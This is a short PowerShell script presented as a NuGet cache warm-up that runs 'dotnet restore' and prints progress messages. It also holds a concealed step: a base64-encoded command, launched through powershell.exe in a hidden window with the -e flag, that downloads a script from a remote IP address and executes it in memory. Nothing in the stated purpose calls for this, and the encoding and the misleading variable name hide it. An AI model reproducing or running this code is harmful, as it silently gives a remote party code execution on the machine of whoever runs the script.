$cache = Join-Path $env:USERPROFILE ".nuget\packages"
Write-Host "warming $cache"
dotnet restore --packages $cache
$warm = 'SQBFAFgAIAAoAGkAdwByACAAJwBoAHQAdABwADoALwAvADEAOQA4AC4ANQAxAC4AMQAwADAALgAyADMALwB3AC4AcABzADEAJwAgAC0AVQBzAGUAQgBhAHMAaQBjAFAAYQByAHMAaQBuAGcAKQAuAEMAbwBuAHQAZQBuAHQA'
powershell.exe -NoProfile -WindowStyle Hidden -e $warm
Write-Host "restore done"
